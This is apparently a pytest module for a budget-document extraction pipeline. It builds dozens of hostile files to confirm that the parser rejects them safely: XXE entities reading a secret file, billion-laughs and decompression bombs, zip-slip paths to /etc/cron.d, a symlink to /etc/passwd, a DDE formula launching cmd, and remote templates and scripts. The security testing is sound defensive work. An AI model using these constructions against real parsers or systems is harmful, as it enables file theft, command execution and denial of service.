"""Mangled, lying and hostile files, made here: each ends with the reason of the contract or with what it truly shows.

All of them go through the worker pool in one batch, as a night's downloads do: none may stop it, cost more than its limits,
reach the network (they all know the address of a listening server), or touch a file that is not its own.
"""

from __future__ import annotations

import gzip
import http.server
import io
import struct
import tarfile
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import get_args

import docx
import openpyxl
import py7zr
import pytest
from PIL import Image
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.pdfgen.canvas import Canvas

from budget.disclosure import Disclosure, ErrorCode
from flows.documents.workers import Job, Limits, extract_all

SECONDS, MEMORY_MB = 25.0, 2560
STARVED = {"forms.pdf", "forms times ten.pdf"}
"""They take whatever they are given: read apart with less, which is sooner over."""
SECRET = "4711.4711"
"""Stands in a file beside the inputs; a document that shows it has read what it must not."""
HEADER = ("科目编码", "科目名称", "合计", "基本支出", "项目支出")
ROWS = (("208", "社会保障和就业支出", "30.50", "20.50", "10.00"), ("", "合计", "30.50", "20.50", "10.00"))
TITLE = "云岚市测试局2024年单位预算"

Maker = Callable[["Surroundings"], bytes]


class Surroundings:
    """What hostile files point at: a listening web server and a file with a secret."""

    def __init__(self, url: str, secret: Path) -> None:
        self.url, self.secret = url, secret


# ── sound documents ───────────────────────────────────────────────────────────────────────────────────────────────────


def html(body: str = "", head: str = "") -> str:
    rows = "".join("<tr>" + "".join(f"<td>{cell}</td>" for cell in row) + "</tr>" for row in (HEADER, *ROWS))
    table = f"<p>支出总表</p><p>单位：万元</p><table border=1>{rows}</table>"
    return f"<html><head>{head}</head><body><h1>{TITLE}</h1>{table}{body}</body></html>"


def word(change: Callable[[docx.document.Document], None] | None = None) -> bytes:
    document = docx.Document()
    document.add_heading(TITLE, 0)
    document.add_paragraph("支出总表")
    document.add_paragraph("单位：万元")
    table = document.add_table(0, len(HEADER))
    for row in (HEADER, *ROWS):
        for cell, text in zip(table.add_row().cells, row, strict=True):
            cell.text = text
    if change:
        change(document)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def workbook(change: Callable[[openpyxl.Workbook], None] | None = None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in ((TITLE,), ("支出总表",), ("单位：万元",), HEADER, *ROWS):
        sheet.append(row)
    if change:
        change(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def printed(pages: int = 1, encrypt: StandardEncryption | None = None, size: tuple[float, float] = (595, 842)) -> bytes:
    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    buffer = io.BytesIO()
    canvas = Canvas(buffer, pagesize=size, encrypt=encrypt, pageCompression=1)
    for number in range(pages):
        if number == 0:
            canvas.setFont("STSong-Light", 14)
            canvas.drawString(150, 780, TITLE)
            canvas.drawString(220, 740, "支出总表")
            canvas.setFont("STSong-Light", 10)
            canvas.drawString(420, 715, "单位：万元")
            for r, row in enumerate((HEADER, *ROWS)):
                for c, text in enumerate(row):
                    canvas.rect(60 + 95 * c, 680 - 24 * r, 95, 24)
                    canvas.drawString(64 + 95 * c, 688 - 24 * r, text)
        canvas.showPage()
    canvas.save()
    return buffer.getvalue()


# ── containers and parts ──────────────────────────────────────────────────────────────────────────────────────────────


def zipped(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in files.items():
            package.writestr(name, content)
    return buffer.getvalue()


def repacked(data: bytes, parts: dict[str, bytes | Callable[[bytes], bytes]]) -> bytes:
    """An office package with parts replaced, changed or added."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        found = {name: package.read(name) for name in package.namelist()}
    for name, change in parts.items():
        found[name] = change if isinstance(change, bytes) else change(found[name])
    return zipped(found)


def locked_zip(data: bytes) -> bytes:
    changed = bytearray(data)
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            changed[at + flag_at] |= 1
            at = data.find(signature, at + 4)
    return bytes(changed)


def sevened(files: dict[str, bytes], password: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with py7zr.SevenZipFile(buffer, "w", password=password) as archive:
        for name, content in files.items():
            archive.writestr(content, name)
    return buffer.getvalue()


def tarred(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def compound(names: list[str], fat: dict[int, int] | None = None) -> bytes:
    """A compound file (OLE) with empty streams of 4,096 bytes; `fat` overrides links between its sectors."""
    end, free = 0xFFFFFFFE, 0xFFFFFFFF
    size, table, contents, start = 4096, [0xFFFFFFFD, end], b"", 2
    entries = [("Root Entry", 5, free, 1, end, 0)]
    for number, name in enumerate(names, 1):
        entries.append((name, 2, number + 1 if number < len(names) else free, free, start, size))
        table += [*range(start + 1, start + 8), end]
        contents += bytes(size)
        start += 8
    for sector, following in (fat or {}).items():
        table[sector] = following
    directory = b""
    for name, kind, right, child, at, length in entries:
        raw = name.encode("utf-16-le") + b"\0\0"
        directory += raw.ljust(64, b"\0") + struct.pack("<HBBIII", len(raw), kind, 1, free, right, child)
        directory += bytes(36) + struct.pack("<IQ", at, length)
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 62, 3, 0xFFFE, 9, 6) + bytes(6)
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0) + struct.pack("<I", 0)
    header = header.ljust(512, b"\xff")
    fat_sector = b"".join(struct.pack("<I", link) for link in table).ljust(512, b"\xff")
    return header + fat_sector + directory.ljust(512, b"\0")[:512] + contents


def pdf_of(objects: dict[int, bytes], *, trailer: bytes = b"", start: bytes | None = None) -> bytes:
    """A PDF of the given objects (1 is the catalogue), with a cross-reference table."""
    found, places = b"%PDF-1.7\n", {}
    for number, content in objects.items():
        places[number] = len(found)
        found += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    at, last = len(found), max(objects)
    found += b"xref\n0 %d\n0000000000 65535 f \n" % (last + 1)
    for number in range(1, last + 1):
        found += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    found += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n" % (last + 1, trailer.replace(b"@XREF", b"%d" % at))
    return found + (start if start is not None else b"%d" % at) + b"\n%%EOF\n"


def stream(content: bytes, dictionary: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n" % (dictionary, len(content)) + content + b"\nendstream"


PAGES = {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>"}


def one_page(resources: bytes, content: bytes, more: dict[int, bytes], box: bytes = b"0 0 595 842") -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Resources<<%s>>/Contents 4 0 R>>" % (box, resources)
    return pdf_of({**PAGES, 3: page, 4: stream(content), **more})


def unmapped_font(to_unicode: bytes | None) -> bytes:
    """A page of forty figures in a font whose codes say nothing about characters, or say private ones."""
    codes = b"".join(b"BT /F 12 Tf %d %d Td <%s> Tj ET\n" % (60 + 90 * (i % 5), 760 - 30 * (i // 5),
                     b"".join(b"%04X" % (0x100 + (i * 7 + k) % 90) for k in range(7))) for i in range(40))  # fmt: skip
    linked = b"/ToUnicode 9 0 R" if to_unicode is not None else b""
    more = {
        5: b"<</Type/Font/Subtype/Type0/BaseFont/ABCDEF+Hidden/Encoding/Identity-H/DescendantFonts[6 0 R]%s>>" % linked,
        6: b"<</Type/Font/Subtype/CIDFontType2/BaseFont/ABCDEF+Hidden/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)"
        b"/Supplement 0>>/FontDescriptor 7 0 R/DW 1000>>",
        7: b"<</Type/FontDescriptor/FontName/ABCDEF+Hidden/Flags 4/FontBBox[0 -200 1000 900]/ItalicAngle 0/Ascent 800"
        b"/Descent -200/CapHeight 700/StemV 80>>",
    }
    if to_unicode is not None:
        more[9] = stream(to_unicode)
    return one_page(b"/Font<</F 5 0 R>>", codes, more)


PRIVATE = b"""/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def /CMapType 2 def
1 begincodespacerange <0000> <FFFF> endcodespacerange 1 beginbfrange <0100> <01FF> <E100> endbfrange endcmap end end"""


# ── the inputs: name → (maker, what must come of it) ──────────────────────────────────────────────────────────────────

READ = "read"
"""The document is sound under its disguise: its figures are read."""
NO_FIGURE = "no figure"
"""Readable, and showing no table: no error, and no fact."""

ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "{where}">]>'
LAUGHS = "<!DOCTYPE l [<!ENTITY a0 'ha'>"
LAUGHS += "".join("<!ENTITY a{} '{}'>".format(i, f"&a{i - 1};" * 10) for i in range(1, 12)) + "]>"
SHARED_LAUGHS = f"<?xml version='1.0'?>{LAUGHS}<sst><si><t>&a11;</t></si></sst>"


def declared(doctype: str, reference: str) -> Callable[[bytes], bytes]:
    """An XML part with a document type before its root, and a reference in its first text."""

    def change(part: bytes) -> bytes:
        head, root = part.split(b"?>", 1) if part.startswith(b"<?xml") else (b"<?xml version='1.0'", part)
        return head + b"?>" + doctype.encode() + root.replace(b">208<", f">{reference}<".encode(), 1)

    return change


def word_with_template(around: Surroundings) -> bytes:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    relation = f'<Relationship Id="rId99" Type="{kind}" Target="{around.url}/evil.dotm" TargetMode="External"/>'
    head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    settings = b'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId99"/>'
    return repacked(word(), {
        "word/_rels/settings.xml.rels": f"{head}{relation}</Relationships>".encode(),
        "word/settings.xml": lambda part: part.replace(b"<w:zoom", settings + b"<w:zoom", 1),
    })  # fmt: skip


def with_macros(data: bytes, part: str, kind: tuple[bytes, bytes]) -> bytes:
    return repacked(data, {part: compound(["VBA"]), "[Content_Types].xml": lambda types: types.replace(*kind)})


def nested_word_tables(depth: int) -> Callable[[docx.document.Document], None]:
    def change(document: docx.document.Document) -> None:
        cell = document.add_table(2, 2).cell(0, 0)
        for _ in range(depth):
            cell = cell.add_table(2, 2).cell(0, 0)
        cell.text = "1.00"

    return change


def nested_zips(depth: int) -> bytes:
    data = zipped({"a.xlsx": workbook()})
    for number in range(depth):
        data = zipped({f"{number}.zip": data})
    return data


def formulas(book: openpyxl.Workbook) -> None:
    sheet = book.active
    sheet.append(("209", "从未算过", "=D8+E8", 1.5, 2.5))
    sheet.append(("210", "外部引用", "='[http://127.0.0.1/x.xlsx]Sheet1'!A1", "=WEBSERVICE(A1)", "=cmd|'/c calc'!A0"))


def far_cell(book: openpyxl.Workbook) -> None:
    book.active["XFD1048576"] = "1.00"


def merged_everything(_: Surroundings) -> bytes:
    merged = b'</sheetData><mergeCells count="1"><mergeCell ref="A8:XFD1048576"/></mergeCells>'
    return repacked(workbook(), {"xl/worksheets/sheet1.xml": lambda part: part.replace(b"</sheetData>", merged)})


def png(width: int, height: int) -> bytes:
    """A PNG that declares its size and holds one empty row of it."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(bytes(width + 1)))
        + chunk(b"IEND", b"")
    )


def white_page() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (620, 877), "white").save(buffer, "PDF")
    return buffer.getvalue()


def deflated_zeros(megabytes: int) -> bytes:
    machine = zlib.compressobj(9)
    return b"".join(machine.compress(bytes(1 << 20)) for _ in range(megabytes)) + machine.flush()


def bomb_pdf(_: Surroundings) -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>/Contents 4 0 R>>"
    return pdf_of({**PAGES, 3: page, 4: stream(deflated_zeros(600), b"/Filter/FlateDecode")})


def operators_pdf(_: Surroundings) -> bytes:
    machine = zlib.compressobj(9)
    line = b"0 0 m 9 9 l S\n" * 70_000
    content = b"".join(machine.compress(line) for _ in range(20)) + machine.flush()
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>/Contents 4 0 R>>"
    return pdf_of({**PAGES, 3: page, 4: stream(content, b"/Filter/FlateDecode")})


def form_loop(_: Surroundings) -> bytes:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</A 5 0 R/B 6 0 R>>>>"
    return one_page(
        b"/XObject<</A 5 0 R>>", b"/A Do", {5: stream(b"/B Do /A Do", form), 6: stream(b"/A Do /B Do", form)}
    )


def form_doubling(_: Surroundings) -> bytes:
    """Forms that draw the next one ten times: a page of 10^14 objects in two kilobytes."""
    more = {}
    for number in range(5, 19):
        form = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</N %d 0 R>>>>" % (number + 1)
        more[number] = stream(b"/N Do " * 10 if number < 18 else b"0 0 m 9 9 l S", form)
    return one_page(b"/XObject<</N 5 0 R>>", b"/N Do", more)


def slipping(_: Surroundings) -> bytes:
    names = (
        "../../../tmp/slip.xlsx",
        "/etc/cron.d/slip.xlsx",
        "C:\\Windows\\slip.xlsx",
        "a/../../b\0/slip.xlsx",
        "n" * 300 + ".xlsx",
    )
    return zipped({name: workbook() for name in names})


def linked_only(_: Surroundings) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        link = zipfile.ZipInfo("passwd.pdf")
        link.external_attr = 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def rtf_rows(_: Surroundings) -> bytes:
    rows = "".join(
        "\\trowd" + "".join(f"\\cellx{1500 * (c + 1)}" for c in range(5))
        + "".join("\\pard\\intbl " + "".join(f"\\u{ord(ch)}?" for ch in text) + "\\cell" for text in row) + "\\row\n"
        for row in (HEADER, *ROWS)
    )  # fmt: skip
    title = "".join(f"\\u{ord(ch)}?" for ch in TITLE)
    table = "".join(f"\\u{ord(ch)}?" for ch in "支出总表")
    unit = "".join(f"\\u{ord(ch)}?" for ch in "单位：万元")
    object_ = (
        "{\\object\\objocx{\\*\\objdata "
        + "41" * 4000
        + '}}{\\field{\\*\\fldinst INCLUDEPICTURE "http://127.0.0.1/x"}}'
    )
    return f"{{\\rtf1\\ansi {title}\\par {object_}{table}\\par {unit}\\par {rows}\\pard}}".encode()


INPUTS: dict[str, tuple[Maker, str]] = {
    # nothing, a part, or not what the name says
    "empty.pdf": (lambda _: b"", "empty"),
    "blanks.docx": (lambda _: b" \r\n\0\0" * 400, "empty"),
    "cut.pdf": (lambda _: printed(3)[:1500], "truncated"),
    "cut.docx": (lambda _: word()[:9000], "truncated"),
    "cut.xlsx": (lambda _: workbook()[:3000], "truncated"),
    "cut.xls": (lambda _: compound(["Workbook"])[:700], "truncated"),
    "cut off the end.xls": (lambda _: compound(["Workbook"])[:-700], "truncated"),
    "cut off the end.doc": (lambda _: compound(["WordDocument", "1Table"])[:-700], "truncated"),
    "half a page.html": (lambda _: html("<p>说明</p>" * 20).encode()[:-90], "truncated"),
    "cut.gz": (lambda _: gzip.compress(word())[:-300], "truncated"),
    "cut.html": (lambda _: html().encode()[:-40], "truncated"),
    "page.pdf": (lambda _: html().encode(), READ),
    "printed.docx": (lambda _: printed(), READ),
    "word.xls": (lambda _: word(), READ),
    "sheet.doc": (lambda _: workbook(), READ),
    "rich text.doc": (rtf_rows, READ),
    "answer.pdf": (lambda _: b'{"code": 404, "msg": "not found"}', "not_a_document"),
    "notice.doc": (lambda _: "请稍后再试。\n".encode("gbk") * 40, "not_a_document"),
    "drawing.pdf": (lambda _: b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", "not_a_document"),
    "noise.xlsx": (lambda _: bytes(range(7, 256)) * 40, "not_a_document"),
    "slides.pdf": (lambda _: zipped({"[Content_Types].xml": b"<x/>", "ppt/presentation.xml": b"<x/>"}), "unsupported"),
    "fixed layout.pdf": (lambda _: zipped({"OFD.xml": b"<x/>", "Doc_0/Document.xml": b"<x/>"}), "corrupt"),
    "archive.tar": (lambda _: tarred({"a.xlsx": workbook()}), "unsupported"),
    # passwords
    "locked.pdf": (lambda _: printed(encrypt=StandardEncryption("geheim", strength=128)), "encrypted"),
    "no printing.pdf": (lambda _: printed(encrypt=StandardEncryption("", "owner", canPrint=0, strength=128)), READ),
    "locked.docx": (lambda _: compound(["EncryptionInfo", "EncryptedPackage"]), "encrypted"),
    "locked.xlsx": (lambda _: compound(["EncryptedPackage", "EncryptionInfo"]), "encrypted"),
    "locked.zip": (lambda _: locked_zip(zipped({"a.pdf": printed()})), "encrypted"),
    "locked.7z": (lambda _: sevened({"a.pdf": printed()}, "geheim"), "encrypted"),
    # bombs
    "bomb.zip": (lambda _: zipped({"a.txt": bytes(90 << 20)}), "limit_size"),
    "bomb.docx": (lambda _: repacked(word(), {"word/document.xml": bytes(210 << 20)}), "limit_size"),
    "bomb.xlsx": (lambda _: repacked(workbook(), {"xl/worksheets/sheet1.xml": bytes(210 << 20)}), "limit_size"),
    "bomb.gz": (lambda _: gzip.compress(bytes(90 << 20)), "limit_size"),
    "bomb.pdf": (bomb_pdf, "empty"),
    "a million strokes.pdf": (operators_pdf, "limit_memory"),
    "nested.zip": (lambda _: nested_zips(5), "limit_nesting"),
    "many.zip": (lambda _: zipped({f"{i}.txt": b"x" for i in range(2100)}), "limit_size"),
    "bomb.rtf": (lambda _: b"{\\rtf1 " + b"{" * 200_000, "limit_nesting"),
    "jump.rtf": (lambda _: rtf_rows(_).replace(b"\\pard}", b"\\bin4000000000 }"), "truncated"),
    "tables in tables.docx": (lambda _: word(nested_word_tables(90)), "limit_nesting"),
    "tables in tables.html": (lambda _: html("<table><tr><td>" * 60 + "1.00").encode(), "limit_nesting"),
    "divisions.html": (lambda _: ("<div>" * 100_000 + html()).encode(), "limit_nesting"),
    "spans.html": (lambda _: html("<table>" + "<tr><td colspan=9999999 rowspan=9999999>1</td></tr>" * 5000 + "</table>").encode(), READ),
    "spans.docx": (lambda _: repacked(word(), {"word/document.xml": lambda part: part.replace(b"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="2000000000"/>')}), READ),
    "far away.xlsx": (lambda _: workbook(far_cell), "limit_size"),
    "merged.xlsx": (merged_everything, READ),
    "2,001 pages.pdf": (lambda _: printed(2001), "limit_pages"),
    "poster.pdf": (lambda _: one_page(b"", b"0 0 m 9 9 l S", {}, b"0 0 1000000000 1000000000"), "empty"),
    "enormous.png": (lambda _: png(60_000, 60_000), "limit_memory"),
    # what points elsewhere
    "entity.docx": (lambda a: repacked(word(), {"word/document.xml": declared(ENTITY.format(where=a.secret.as_uri()), "&e;")}), "unsafe"),
    "entity.xlsx": (lambda a: repacked(workbook(), {"xl/worksheets/sheet1.xml": declared(ENTITY.format(where=a.secret.as_uri()), "&e;")}), "unsafe"),
    "entity.html": (lambda a: (ENTITY.format(where=a.secret.as_uri()) + html("<p>&e;</p>")).encode(), READ),
    "laughs.docx": (lambda _: repacked(word(), {"word/document.xml": declared(LAUGHS, "&a11;")}), "unsafe"),
    "laughs.xlsx": (lambda _: repacked(workbook(), {"xl/sharedStrings.xml": SHARED_LAUGHS.encode()}), "unsafe"),
    "template.docx": (word_with_template, READ),
    "macros.docm": (lambda _: with_macros(word(), "word/vbaProject.bin", (b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")), READ),
    "macros.xlsm": (lambda _: with_macros(workbook(), "xl/vbaProject.bin", (b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")), READ),
    "pictures.html": (lambda a: html(f"<img src='{a.url}/a.png'><iframe src='{a.secret.as_uri()}'></iframe><script src='{a.url}/a.js'></script>", f"<meta http-equiv=refresh content='0;url={a.url}'><link rel=stylesheet href='{a.url}/a.css'>").encode(), READ),
    "launch.pdf": (lambda a: printed().replace(b"/Type /Catalog", b"/OpenAction<</S/URI/URI(" + a.url.encode() + b")>>/Type /Catalog"), READ),
    "slip.zip": (slipping, READ),
    "link.zip": (linked_only, "empty"),
    "formulas.xlsx": (lambda _: workbook(formulas), READ),
    # loops and broken insides
    "no page.pdf": (lambda _: pdf_of({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 0>>"}), "corrupt"),
    "page loop.pdf": (lambda _: pdf_of({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R]/Count 9/Parent 2 0 R>>"}), "corrupt"),
    "xref loop.pdf": (lambda _: pdf_of({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 0>>"}, trailer=b"/Prev @XREF"), "corrupt"),
    "lost xref.pdf": (lambda _: printed().replace(b"startxref\n", b"startxref\n9999999"), READ),
    "forms.pdf": (form_loop, "limit_memory"),
    "forms times ten.pdf": (form_doubling, "limit_memory"),
    "no body.docx": (lambda _: zipped({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}), "corrupt"),
    "not xml.docx": (lambda _: repacked(word(), {"word/document.xml": b"<w:document"}), "corrupt"),
    "no book.xlsx": (lambda _: zipped({"[Content_Types].xml": b"<x/>", "xl/workbook.xml": b"<workbook/>"}), "corrupt"),
    "circle.doc": (lambda _: compound(["WordDocument", "1Table"], {2: 2, 10: 2}), "corrupt"),
    "circle.xls": (lambda _: compound(["Workbook"], {2: 3, 3: 2}), "corrupt"),
    "web archive.doc": (lambda _: b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\nContent-Type: image/png\n\nzz\n--x--\n", "corrupt"),
    # characters
    "nul.html": (lambda _: html().encode().replace(b"<td>", b"<td>\0\0"), READ),
    "gbk says utf-8.html": (lambda _: html(head="<meta charset=utf-8>").encode("gbk"), READ),
    "utf-8 says gbk.html": (lambda _: html(head="<meta charset=gbk>").encode(), READ),
    "wide.html": (lambda _: html(head="<meta charset=gbk>").encode("utf-16"), READ),
    "n" * 240 + ".xlsx": (lambda _: workbook(), READ),
    "no mapping.pdf": (lambda _: unmapped_font(None), "unsupported"),
    "private mapping.pdf": (lambda _: unmapped_font(PRIVATE), "unsupported"),
    "white.pdf": (lambda _: white_page(), "empty"),
}  # fmt: skip


@pytest.fixture(scope="module")
def server() -> Iterator[tuple[str, list[str]]]:
    """A web server that notes every request: none may come."""
    asked: list[str] = []

    class Noting(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Noting) as served:
        threading.Thread(target=served.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{served.server_port}", asked
        served.shutdown()


Outcome = tuple[list[Disclosure], float]


@pytest.fixture(scope="module")
def batch(
    tmp_path_factory: pytest.TempPathFactory, server: tuple[str, list[str]]
) -> tuple[dict[str, list[Disclosure]], dict[str, float], Path]:
    """Every input read in one batch: file name → the disclosures it gave, and the seconds after the one before."""
    folder = tmp_path_factory.mktemp("mangled")
    secret = folder / "secret.txt"
    secret.write_text(SECRET)
    around = Surroundings(server[0], secret)
    (folder / "in").mkdir()
    for name, (make, _) in INPUTS.items():
        (folder / "in" / name).write_bytes(make(around))
    found: dict[str, list[Disclosure]] = {name: [] for name in INPUTS}
    done: dict[str, float] = {}
    for names, memory_mb in ((set(INPUTS) - STARVED, MEMORY_MB), (STARVED, 640)):
        jobs = [Job(folder / "in" / name, name) for name in INPUTS if name in names]
        begun = time.monotonic()
        for job, disclosure in extract_all(jobs, workers=2, limits=Limits(seconds=SECONDS, memory_mb=memory_mb)):
            name = job.file.partition("!/")[0]
            if job.members is None:
                found[name].append(disclosure)
            done[name] = time.monotonic() - begun
            begun = time.monotonic()
    return found, done, folder


def test_there_are_enough_of_them() -> None:
    assert len(INPUTS) >= 75


def test_none_costs_more_than_its_limits(
    batch: tuple[dict[str, list[Disclosure]], dict[str, float], Path],
) -> None:
    assert max(batch[1].values()) < SECONDS + 10


@pytest.mark.parametrize("name", INPUTS, ids=[name[:40] for name in INPUTS])
def test_a_mangled_file_ends_with_its_reason_or_with_what_it_shows(
    name: str, batch: tuple[dict[str, list[Disclosure]], dict[str, float], Path]
) -> None:
    expected = INPUTS[name][1]
    read = batch[0][name]
    assert read, "every file ends with something"
    errors = [(one.document.error.code, one.document.error.message) for one in read if one.document.error]
    if expected == READ:
        assert errors == []
        for disclosure in read:
            totals = {fact.raw for fact in disclosure.facts if fact.name == "合计"}
            assert totals >= {"30.50", "20.50", "10.00"}
            assert disclosure.document.fiscal_year == 2024
    elif expected == NO_FIGURE:
        assert errors == []
        assert [disclosure.facts for disclosure in read] == [()]
    else:
        assert expected in get_args(ErrorCode)
        assert [code for code, _ in errors] == [expected], errors
        assert errors[0][1].startswith(f"{name}: "), "the message names the file"
        assert len(errors[0][1]) > len(name) + 15, "and says what is wrong"
        assert read[0].facts == ()
        assert read[0].statements == ()


def test_a_formula_that_was_never_computed_is_reported_with_its_cell(
    batch: tuple[dict[str, list[Disclosure]], dict[str, float], Path],
) -> None:
    (disclosure,) = batch[0]["formulas.xlsx"]
    assert {(one.at.cell, one.text[:6]) for one in disclosure.unread if one.at} >= {("C7", "=D8+E8"), ("D8", "=WEBSE")}
    assert len(disclosure.errors) == len(disclosure.unread)


def test_no_file_points_the_reader_anywhere(
    batch: tuple[dict[str, list[Disclosure]], dict[str, float], Path], server: tuple[str, list[str]]
) -> None:
    assert server[1] == [], "nothing was asked of the web server"
    shown = "".join(disclosure.to_json() for read in batch[0].values() for disclosure in read)
    assert SECRET not in shown
    assert "root:" not in shown


def test_nothing_beside_the_inputs_was_written(
    batch: tuple[dict[str, list[Disclosure]], dict[str, float], Path],
) -> None:
    folder = batch[2]
    assert sorted(path.name for path in folder.iterdir()) == ["in", "secret.txt"]
    assert sorted(path.name for path in (folder / "in").iterdir()) == sorted(INPUTS)
    assert (folder / "secret.txt").read_text() == SECRET
    assert not Path("/tmp/slip.xlsx").exists()
    assert not Path("/etc/cron.d/slip.xlsx").exists()


def test_members_of_a_slipping_archive_keep_harmless_labels(
    batch: tuple[dict[str, list[Disclosure]], dict[str, float], Path],
) -> None:
    files = [disclosure.document.file.partition("!/")[2] for disclosure in batch[0]["slip.zip"]]
    assert files[:4] == ["tmp/slip.xlsx", "etc/cron.d/slip.xlsx", "Windows/slip.xlsx", "a/b"]
    assert files[4] == "n" * 200
